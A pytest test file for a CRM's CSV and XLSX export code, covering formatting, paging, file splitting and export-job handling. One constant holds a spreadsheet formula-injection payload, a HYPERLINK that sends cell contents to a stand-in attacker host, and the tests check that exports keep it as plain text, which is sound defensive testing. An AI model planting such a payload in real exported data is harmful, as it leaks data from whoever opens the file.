"""Exports: what is written is what is stored, nothing of it is calculated, and a million rows are as little as one."""

import asyncio
import csv
import io
import sys
from datetime import datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
import uvloop
from openpyxl import load_workbook
from sqlalchemy import insert, make_url, select, text, update
from sqlalchemy.orm import Session

from bot.texts import translator
from bot.texts.exports import table_words
from crm_core import events, statistics
from crm_core.access.actors import Actor, telegram
from crm_core.errors import ExportUnderWay, NotAllowed
from crm_core.exports import files, jobs, making
from crm_core.exports.in_subprocess import make_in_subprocess
from crm_core.exports.inert import BREAKS, SIGNS
from crm_core.exports.kinds import Form, What
from crm_core.exports.making import Made, Order, make
from crm_core.exports.rows import Span
from crm_core.statistics import Period
from crm_core.storage.database import Database
from crm_core.storage.tables import Contact, Event, Lead, OutboxRow, Staff
from crm_core.subprocesses import NoResult
from tests.domain.statistics.test_statistics import NOON, Books
from tests.support.forks import ROOT
from tests.support.interleaving import interleave

MOSCOW = "Europe/Moscow"
BOMB = '=HYPERLINK("https://evil.example/?x="&A1;"открой")'


def order(what: What, form: Form, path: Path, *, language: str = "ru", span: Span | None = None, **more: Any) -> Order:
    words = table_words(what, translator(language))
    return Order(what=what, form=form, span=span or Span(), words=words, path=path, zone=MOSCOW, **more)


def read_csv(path: Path, delimiter: str = ";") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter))


def read_xlsx(path: Path) -> list[list[Any]]:
    """Every row of every sheet, with the headings of the first one."""
    book = load_workbook(path, read_only=True)
    try:
        found = [[list(row) for row in sheet.iter_rows(values_only=True)] for sheet in book]
    finally:
        book.close()
    return [*found[0], *(row for rows in found[1:] for row in rows[1:])]


def opened(s: Session, *, name: str = "Иван", message: str = "Здравствуйте", at: datetime = NOON, **lead: Any) -> None:
    """A contact of a new lead."""
    lead_id = s.execute(insert(Lead.__table__).returning(Lead.id), {"full_name": name, "created_at": at, **lead})
    s.execute(
        insert(Contact.__table__),
        {
            "lead_id": lead_id.scalar_one(),
            "source_id": 1,
            "status": "new",
            "version": 1,
            "message": message,
            "created_at": at,
        },
    )


@pytest.mark.parametrize("form", Form)
async def test_contacts_export_contains_stored_values_in_local_time(db: Database, tmp_path: Path, form: Form) -> None:
    def story(s: Session) -> None:
        books = Books(s)
        anna = books.operator("Анна", 1)
        books.contact(anna, taken=80, replied=120, closed=True)
        opened(s, name="Пётр Ёлкин", message="Сколько стоит?\nИ когда?", phone="+79991234567", email="p@example.com")

    await db.write(story)
    made = await make(db, order(What.CONTACTS, form, tmp_path / f"contacts.{form}"))
    assert (made.files, made.rows) == ([tmp_path / f"contacts.{form}"], 2)
    rows = read_csv(made.files[0]) if form is Form.CSV else read_xlsx(made.files[0])
    assert rows[0][:6] == ["Номер", "Открыто", "Источник", "Состояние", "Оператор", "Клиент"]
    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    # 12:00 in UTC is 15:00 in Moscow.
    noon = "2026-03-15 15:00:00" if form is Form.CSV else datetime(2026, 3, 15, 15)  # noqa: DTZ001 - Excel has no zones
    taken = "2026-03-15 15:01:20" if form is Form.CSV else datetime(2026, 3, 15, 15, 1, 20)  # noqa: DTZ001
    assert (first["Открыто"], first["Взято"], first["Состояние"], first["Оператор"]) == (noon, taken, "закрыто", "Анна")
    assert (second["Клиент"], second["Первое сообщение"]) == ("Пётр Ёлкин", "Сколько стоит?\nИ когда?")
    assert (second["Почта"], second["Состояние"]) == ("p@example.com", "в очереди")
    nothing = "" if form is Form.CSV else None
    assert (second["Оператор"], second["Взято"]) == (nothing, nothing)
    assert second["Номер"] == ("2" if form is Form.CSV else 2)


@pytest.mark.fault("F77")
async def test_csv_uses_bom_crlf_and_the_delimiter_of_the_language(db: Database, tmp_path: Path) -> None:
    await db.write(lambda s: opened(s) if Books(s) else None)
    russian = (await make(db, order(What.LEADS, Form.CSV, tmp_path / "ru.csv"))).files[0].read_bytes()
    english = (await make(db, order(What.LEADS, Form.CSV, tmp_path / "en.csv", language="en"))).files[0].read_bytes()
    assert russian.startswith('\ufeff"Номер";"Впервые";'.encode())
    assert english.startswith('\ufeff"Number","First seen",'.encode())
    assert russian.count(b"\r\n") == 3


@pytest.mark.fault("F77")
@pytest.mark.parametrize("start", [*SIGNS, *BREAKS])
async def test_formula_like_text_is_exported_as_plain_text(db: Database, tmp_path: Path, start: str) -> None:
    words = f"{start}1+1"
    await db.write(lambda s: opened(s, name=words, message=words, phone=words, email=words) if Books(s) else None)
    plain = await make(db, order(What.CONTACTS, Form.CSV, tmp_path / "a.csv"))
    assert [cell for cell in read_csv(plain.files[0])[1] if cell.endswith("1+1")] == [f"'{words}"] * 4
    book = load_workbook((await make(db, order(What.CONTACTS, Form.XLSX, tmp_path / "a.xlsx"))).files[0])
    cells = [cell for cell in book.active[2] if str(cell.value).endswith("1+1")]
    assert len(cells) == 4
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)  # text also after somebody has edited it
    book.close()


@pytest.mark.fault("F77")
async def test_xlsx_keeps_links_and_formulas_as_text_and_truncates_long_cells(db: Database, tmp_path: Path) -> None:
    await db.write(lambda s: opened(s, name=BOMB, message="https://evil.example/" + "x" * 40_000) if Books(s) else None)
    path = (await make(db, order(What.CONTACTS, Form.XLSX, tmp_path / "a.xlsx"))).files[0]
    book = load_workbook(path)
    row = book.active[2]
    assert [cell.data_type for cell in row if cell.value == BOMB] == ["s"]
    assert all(cell.hyperlink is None for cell in row)
    assert max(len(str(cell.value)) for cell in row) == files.CELL_LONGEST
    book.close()
    with ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


async def test_export_period_includes_its_start_and_excludes_its_end(db: Database, tmp_path: Path) -> None:
    begin, end = NOON, NOON + timedelta(days=2)
    moments = [begin - timedelta(milliseconds=1), begin, end - timedelta(milliseconds=1), end]

    def story(s: Session) -> None:
        Books(s)
        for number, moment in enumerate(moments):
            opened(s, name=f"Клиент {number}", at=moment)
            events.record(s, [events.NewEvent(f"event_{number}", moment, "system")])

    await db.write(story)

    async def found(what: What, span: Span, column: int) -> list[str]:
        made = await make(db, order(what, Form.CSV, tmp_path / "a.csv", span=span))
        return [row[column] for row in read_csv(made.files[0])[1:] if row[column].startswith(("Клиент", "event_"))]

    for what, column, name in ((What.CONTACTS, 5, "Клиент"), (What.LEADS, 2, "Клиент")):
        assert await found(what, Span(begin, end), column) == [f"{name} 1", f"{name} 2"]
        assert await found(what, Span(begin), column) == [f"{name} 1", f"{name} 2", f"{name} 3"]
        assert await found(what, Span(until=end), column) == [f"{name} 0", f"{name} 1", f"{name} 2"]
        assert len(await found(what, Span(), column)) == 4
    assert await found(What.EVENTS, Span(begin, end), 2) == ["event_1", "event_2"]


async def test_operators_export_counts_contacts_of_the_period(db: Database, tmp_path: Path) -> None:
    def story(s: Session) -> None:
        statistics.prepare(s, zone=MOSCOW)
        books = Books(s)
        anna, boris = books.operator("Анна", 1), books.operator("Борис", 1)
        for days in (0, 1, 40):
            books.contact(anna, at=NOON - timedelta(days=days), closed=True)
        books.contact(boris, at=NOON - timedelta(days=40), closed=True)

    await db.write(story)
    month = Span(NOON - timedelta(days=30), NOON + timedelta(days=1))
    made = await make(db, order(What.OPERATORS, Form.XLSX, tmp_path / "a.xlsx", span=month))
    head, *rows = read_xlsx(made.files[0])
    told = [dict(zip(head, row, strict=True)) for row in rows]
    assert [(one["Имя"], one["Обращений за период"], one["Лимит"], one["Приём включён"]) for one in told] == [
        ("Анна", 2, 10, "да"),
        ("Борис", 0, 10, "да"),
    ]


async def test_events_export_names_actor_source_reason_and_details(db: Database, tmp_path: Path) -> None:
    def story(s: Session) -> None:
        books = Books(s)
        s.execute(insert(Staff.__table__), {"telegram_id": 5, "name": "Ольга", "is_admin": True, "created_at": NOON})
        data = {"была": 1}
        events.record(s, [events.NewEvent("tried", NOON, "tg:5", source_id=books.shop, reason="why", data=data)])

    await db.write(story)
    made = await make(db, order(What.EVENTS, Form.CSV, tmp_path / "a.csv", language="en"))
    last = dict(zip(*(read_csv(made.files[0], ",")[at] for at in (0, -1)), strict=True))
    assert last["Who"] == "tg:5"
    assert (last["Who (name)"], last["Source"], last["Reason"]) == ("Ольга", "shop_bot", "why")
    assert last["Details"] == '{"была": 1}'


def many(s: Session, number: int, *, message: str = "Здравствуйте") -> None:
    """So many contacts, each with its lead."""
    Books(s)
    # In portions: on a slow machine one statement with all of them takes longer than a statement may.
    everything = range(10, 10 + number)
    for numbers in (everything[at : at + 2000] for at in range(0, number, 2000)):
        s.execute(
            insert(Lead.__table__),
            [{"id": one, "full_name": f"Клиент {one}", "created_at": NOON} for one in numbers],
        )
        s.execute(
            insert(Contact.__table__),
            [
                {
                    "id": one,
                    "lead_id": one,
                    "source_id": 1,
                    "status": "closed",
                    "version": 1,
                    "message": message,
                    "created_at": NOON + timedelta(seconds=one),
                }
                for one in numbers
            ],
        )


@pytest.mark.parametrize("form", Form)
async def test_export_pages_join_without_gaps_and_report_progress(db: Database, tmp_path: Path, form: Form) -> None:
    await db.write(many, 2_345)
    told: list[tuple[int, int]] = []
    made = await make(db, order(What.CONTACTS, form, tmp_path / f"a.{form}"), on_progress=lambda *how: told.append(how))
    rows = read_csv(made.files[0]) if form is Form.CSV else read_xlsx(made.files[0])
    assert [int(row[0]) for row in rows[1:]] == list(range(10, 2_355))
    assert told == [(0, 2_345), (1_000, 2_345), (2_000, 2_345), (2_345, 2_345)]


@pytest.mark.parametrize("form", Form)
async def test_export_above_size_limit_is_split_into_numbered_files(db: Database, tmp_path: Path, form: Form) -> None:
    await db.write(many, 1_200, message="Здравствуйте! " * 20)
    made = await make(db, order(What.CONTACTS, form, tmp_path / f"a.{form}", largest=200_000))
    count = len(made.files)
    assert [one.name for one in made.files] == [f"a_{n}_of_{count}.{form}" for n in range(1, count + 1)]
    assert count > 1
    assert max(one.stat().st_size for one in made.files) < 200_000 + files.CHUNK * 1_000
    each = [read_csv(one) if form is Form.CSV else read_xlsx(one) for one in made.files]
    assert all(rows[0] == each[0][0] for rows in each)
    assert [int(row[0]) for rows in each for row in rows[1:]] == list(range(10, 1_210))


async def test_large_csv_is_zipped_when_a_file_size_limit_applies(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(making, "ZIPPED_FROM", 1_000)
    await db.write(many, 1_200)
    made = await make(db, order(What.CONTACTS, Form.CSV, tmp_path / "a.csv", largest=1_000_000))
    assert [one.name for one in made.files] == ["a.csv.zip"]
    with ZipFile(made.files[0]) as archive:
        (name,) = archive.namelist()
        table = archive.read(name).decode("utf-8-sig")
    assert name == "contacts.csv"
    assert len(list(csv.reader(io.StringIO(table), delimiter=";"))) == 1_201
    plain = await make(db, order(What.CONTACTS, Form.CSV, tmp_path / "a.csv"))
    assert plain.files[0].name == "a.csv"


async def test_full_xlsx_sheet_is_continued_on_another_sheet(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "SHEET_LONGEST", 501)
    await db.write(many, 1_200)
    made = await make(db, order(What.CONTACTS, Form.XLSX, tmp_path / "a.xlsx"))
    book = load_workbook(made.files[0], read_only=True)
    assert book.sheetnames == ["Обращения", "Обращения 2", "Обращения 3"]
    book.close()
    assert [row[0] for row in read_xlsx(made.files[0])[1:]] == list(range(10, 1_210))


@pytest.mark.parametrize("form", Form)
async def test_interrupted_export_leaves_no_files(db: Database, tmp_path: Path, form: Form) -> None:
    await db.write(many, 2_345)

    def stop(done: int, total: int) -> None:
        if done == 2_000:
            raise KeyboardInterrupt

    here = tmp_path / "here"
    here.mkdir()
    with pytest.raises(KeyboardInterrupt):
        await make(db, order(What.CONTACTS, form, here / "a.file"), on_progress=stop)
    assert list(here.iterdir()) == []


async def test_existing_file_is_replaced_only_by_a_complete_export(db: Database, tmp_path: Path) -> None:
    await db.write(many, 1_500)
    path = tmp_path / "a.csv"
    path.write_text("yesterday's")

    def stop(done: int, total: int) -> None:
        if done == 1_000:
            assert path.read_text() == "yesterday's"
            raise RuntimeError

    with pytest.raises(RuntimeError):
        await make(db, order(What.CONTACTS, Form.CSV, path), on_progress=stop)
    assert path.read_text() == "yesterday's"
    await make(db, order(What.CONTACTS, Form.CSV, path))
    assert len(read_csv(path)) == 1_501
    assert path.stat().st_mode & 0o077 == 0  # personal data, for nobody else


async def test_export_to_missing_folder_raises_file_not_found(db: Database, tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        await make(db, order(What.LEADS, Form.CSV, tmp_path / "nowhere" / "a.csv"))


# --- in a process of its own ------------------------------------------------------------------------------------------


@pytest.mark.slow
async def test_export_in_subprocess_gives_an_identical_file(db: Database, tmp_path: Path) -> None:
    await db.write(many, 1_100)
    told: list[tuple[int, int]] = []
    span = Span(NOON, NOON + timedelta(seconds=500))
    wanted = order(What.CONTACTS, Form.CSV, tmp_path / "a.csv", span=span)
    made = await make_in_subprocess(db.url, wanted, on_progress=lambda *how: told.append(how))
    assert made == Made([tmp_path / "a.csv"], 490)
    assert told == [(0, 490), (490, 490)]
    there = (tmp_path / "a.csv").read_bytes()
    await make(db, wanted)
    assert (tmp_path / "a.csv").read_bytes() == there


@pytest.mark.slow
def test_export_in_subprocess_works_with_uvloop(database_url: str, tmp_path: Path) -> None:
    """Which takes fewer arguments for a process than asyncio's own."""
    wanted = order(What.LEADS, Form.CSV, tmp_path / "a.csv")
    made = uvloop.run(make_in_subprocess(make_url(database_url), wanted, on_progress=lambda *_: None))
    assert (made.rows, len(read_csv(made.files[0]))) == (0, 1)


@pytest.mark.slow
async def test_export_subprocess_failures_raise_and_hide_the_password(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    gone = order(What.LEADS, Form.CSV, tmp_path / "nowhere" / "a.csv")
    with pytest.raises(NoResult, match="FileNotFoundError"):
        await make_in_subprocess(db.url, gone, on_progress=lambda *_: None)
    away = make_url("postgresql://me:hunter2@127.0.0.1:1/crm")
    with pytest.raises(NoResult, match="OperationalError") as found:
        await make_in_subprocess(away, order(What.LEADS, Form.CSV, tmp_path / "a.csv"), on_progress=lambda *_: None)
    assert "hunter2" not in str(found.value)
    monkeypatch.setattr(sys, "executable", "/nowhere/python")
    with pytest.raises(NoResult, match="no process"):
        await make_in_subprocess(db.url, gone, on_progress=lambda *_: None)


@pytest.mark.slow
async def test_cancelled_subprocess_export_leaves_no_file(db: Database, tmp_path: Path) -> None:
    await db.write(many, 1_500)
    begun = asyncio.Event()
    task = asyncio.create_task(
        make_in_subprocess(
            db.url, order(What.CONTACTS, Form.XLSX, tmp_path / "a.xlsx"), on_progress=lambda *_: begun.set()
        )
    )
    await begun.wait()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not (tmp_path / "a.xlsx").exists()


MEASURED = """
import asyncio, re, sys
from pathlib import Path
from bot.texts import translator
from bot.texts.exports import table_words
from crm_core.exports.making import Form, Order, Span, What, make
from crm_core.storage.opening import open_database

async def main(url, form, path):
    db = open_database(url)
    words = table_words(What.CONTACTS, translator("ru"))
    peaks = []
    def look(done, total):
        # Not `ru_maxrss`, which begins with the memory of the process that started this one.
        peaks.append(int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1]))
    await make(db, Order(What.CONTACTS, Form(form), Span(), words, Path(path), "UTC"), on_progress=look)
    await db.close()
    look(0, 0)
    print(peaks[2], peaks[-1])  # kilobytes, after two pages and in the end

asyncio.run(main(*sys.argv[1:]))
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    ("form", "rows"), [(Form.CSV, 15_000), pytest.param(Form.XLSX, 15_000, marks=pytest.mark.sqlite_is_enough)]
)
async def test_export_memory_does_not_grow_with_row_count(db: Database, tmp_path: Path, form: Form, rows: int) -> None:
    await db.write(many, 1, message="Здравствуйте! " * 30)
    await db.write(doubled, rows)
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-c",
        MEASURED,
        db.url.render_as_string(hide_password=False),
        form,
        tmp_path / "a",
        cwd=ROOT,
        stdout=asyncio.subprocess.PIPE,
    )
    out, _ = await process.communicate()
    early, late = map(int, out.split())
    assert (tmp_path / "a").stat().st_size > rows * 20
    assert late - early < 5_000  # kilobytes; to keep all rows takes 19 000, a workbook that is kept 12 000


def doubled(s: Session, number: int) -> None:
    """Doubles what there is until there are so many contacts: in the database alone, which takes a second."""
    names = "lead_id, source_id, status, version, message, created_at"
    more = text(
        f"INSERT INTO contacts (id, {names}) "  # noqa: S608 - our own words
        f"SELECT id + :have, {names} FROM contacts WHERE id < 10 + :add"
    )
    have = 1
    while have < number:
        add = min(have, number - have)
        s.execute(more, {"have": have, "add": add})
        have += add


# --- asked for in Telegram --------------------------------------------------------------------------------------------

OLGA, BOSS, BOT = telegram(5), telegram(6), 7


def asked(s: Session, *, actor: Actor = OLGA, what: What = What.LEADS, now: datetime = NOON) -> int:
    return jobs.ask(
        s,
        what=what,
        form=Form.CSV,
        period=Period.WEEK,
        since=NOON - timedelta(days=7),
        language="ru",
        bot_id=BOT,
        message_id=9,
        actor=actor,
        now=now,
    )


def admins(s: Session) -> None:
    Books(s)
    for actor in (OLGA, BOSS):
        s.execute(
            insert(Staff.__table__),
            {"telegram_id": actor.telegram_id, "name": "A", "is_admin": True, "created_at": NOON},
        )


async def test_export_request_is_recorded_and_limited_to_one_per_admin(db: Database) -> None:
    await db.write(admins)
    await db.write(asked, what=What.CONTACTS)
    with pytest.raises(ExportUnderWay):
        await db.write(asked)
    await db.write(asked, actor=BOSS)
    with pytest.raises(NotAllowed):
        await db.write(asked, actor=telegram(8))
    recorded = await db.read(
        lambda s: s.execute(select(Event.actor, Event.data).where(Event.kind == events.EXPORTED)).all()
    )
    assert [row.actor for row in recorded] == ["tg:5", "tg:6"]
    assert recorded[0].data == {
        "what": "contacts",
        "form": "csv",
        "since": "2026-03-08T12:00:00+00:00",
        "until": "2026-03-15T12:00:00+00:00",
    }


async def test_concurrent_export_requests_of_one_admin_start_one_export(db: Database) -> None:
    await db.write(admins)
    found = await asyncio.gather(*(db.write(asked) for _ in range(4)), return_exceptions=True)
    assert [one for one in found if not isinstance(one, ExportUnderWay)] == [1]


async def test_export_job_is_claimed_once_and_restarted_by_the_next_session(db: Database) -> None:
    await db.write(admins)
    await db.write(asked)
    await db.write(asked, actor=BOSS)
    first, second, none = [
        await db.write(jobs.claim, bot_id=BOT, fencing_token=3, at_work=at_work) for at_work in ([], [1], [1, 2])
    ]
    assert first is not None
    assert second is not None
    assert none is None
    assert (first.chat_id, second.chat_id, first.attempt) == (5, 6, 1)
    assert first.span == Span(NOON - timedelta(days=7), NOON + timedelta(milliseconds=1))
    assert not await db.read(jobs.waits, bot_id=BOT, fencing_token=3, at_work=[first.id, second.id])
    assert await db.read(jobs.waits, bot_id=BOT, fencing_token=4)
    again = await db.write(jobs.claim, bot_id=BOT, fencing_token=4)
    assert again is not None
    assert (again.id, again.attempt) == (first.id, 2)
    # The ended run is late: nothing of it counts.
    assert not await db.read(jobs.is_wanted, job=first)
    assert await db.read(jobs.is_wanted, job=again)
    await db.write(jobs.finish, job=first, state="failed", outcome="late", payload={"text": "late"}, now=NOON)
    await db.write(jobs.finish, job=again, state="done", outcome="2 rows", payload={"text": "done"}, now=NOON)
    screens = await db.read(lambda s: s.execute(select(OutboxRow.chat_id, OutboxRow.payload)).all())
    assert [tuple(row) for row in screens] == [(5, {"text": "done", "message_id": 9})]
    await db.write(asked)  # now they may have another


@pytest.mark.fault("F104")
async def test_failed_export_is_put_back_and_claimed_again(db: Database) -> None:
    await db.write(admins)
    await db.write(asked)
    told: list[Any] = []
    db.listeners.append(told.extend)
    first = await db.write(jobs.claim, bot_id=BOT, fencing_token=3)
    assert first is not None
    await db.write(jobs.put_back, job=first)
    assert told == [jobs.Asked(first.id)]
    assert not await db.read(jobs.is_wanted, job=first)
    again = await db.write(jobs.claim, bot_id=BOT, fencing_token=3)
    assert again is not None
    assert (again.id, again.attempt) == (first.id, 2)
    other = await db.write(jobs.claim, bot_id=BOT, fencing_token=4)
    await db.write(jobs.put_back, job=again)  # late: another session has it
    assert other is not None
    assert await db.read(jobs.is_wanted, job=other)


@pytest.mark.fault("F278")
async def test_claim_that_nobody_works_on_is_found_again_by_its_session(db: Database) -> None:
    """Its transaction was committed, and whoever made it got an error."""
    await db.write(admins)
    await db.write(asked)
    lost = await db.write(jobs.claim, bot_id=BOT, fencing_token=3)
    assert lost is not None
    assert await db.read(jobs.waits, bot_id=BOT, fencing_token=3)
    assert not await db.read(jobs.waits, bot_id=BOT, fencing_token=2)  # an earlier session finds nothing of it
    found = await db.write(jobs.claim, bot_id=BOT, fencing_token=3)
    assert found is not None
    assert (found.id, found.attempt) == (lost.id, 2)
    for late in (jobs.put_back, partial(jobs.finish, state="failed", outcome="late", payload={}, now=NOON)):
        await db.write(late, job=lost)
        assert await db.read(jobs.is_wanted, job=found)
    assert not await db.read(jobs.is_wanted, job=lost)
    assert not await db.read(jobs.waits, bot_id=BOT, fencing_token=3, at_work=[found.id])
    assert await db.write(jobs.claim, bot_id=BOT, fencing_token=3, at_work=[found.id]) is None


@pytest.mark.fault("F104")
@pytest.mark.parametrize("boundary", [1, 2])
async def test_export_that_ends_while_it_is_claimed_stays_ended(db: Database, boundary: int) -> None:
    """The session that made it records its end in the moment in which the next session looks for unfinished ones."""
    await db.write(admins)
    await db.write(asked)
    job = await db.write(jobs.claim, bot_id=BOT, fencing_token=3)
    assert job is not None
    claims = partial(jobs.claim, bot_id=BOT, fencing_token=4)
    ends = partial(jobs.finish, job=job, state="done", outcome="1 rows", payload={"text": "done"}, now=NOON)
    outcome = await interleave(db, claims, ends, at=boundary)
    is_claimed = outcome.results[0] is not None
    assert await db.read(jobs.is_under_way, asked_by=5, now=NOON) is is_claimed
    told = await db.read(lambda s: s.execute(select(OutboxRow.chat_id)).all())
    assert bool(told) is not is_claimed


@pytest.mark.fault("F104")
async def test_export_unfinished_for_a_day_does_not_refuse_the_next_one(db: Database) -> None:
    """Its bot may have been taken out of the settings."""
    await db.write(admins)
    await db.write(asked)
    job = await db.write(jobs.claim, bot_id=BOT, fencing_token=3)
    assert job is not None
    almost, later = NOON + jobs.ABANDONED_AFTER - timedelta(milliseconds=1), NOON + jobs.ABANDONED_AFTER
    with pytest.raises(ExportUnderWay):
        await db.write(asked, now=almost)
    assert await db.read(jobs.is_under_way, asked_by=5, now=almost)
    assert not await db.read(jobs.is_under_way, asked_by=5, now=later)
    assert await db.write(asked, now=later) != job.id
    assert not await db.read(jobs.is_wanted, job=job)


async def test_export_job_of_removed_admin_is_no_longer_wanted(db: Database) -> None:
    await db.write(admins)
    await db.write(asked)
    job = await db.write(jobs.claim, bot_id=BOT, fencing_token=3)
    assert job is not None
    assert await db.read(jobs.is_wanted, job=job)
    await db.write(lambda s: s.execute(update(Staff).where(Staff.telegram_id == 5).values(is_admin=False)))
    assert not await db.read(jobs.is_wanted, job=job)
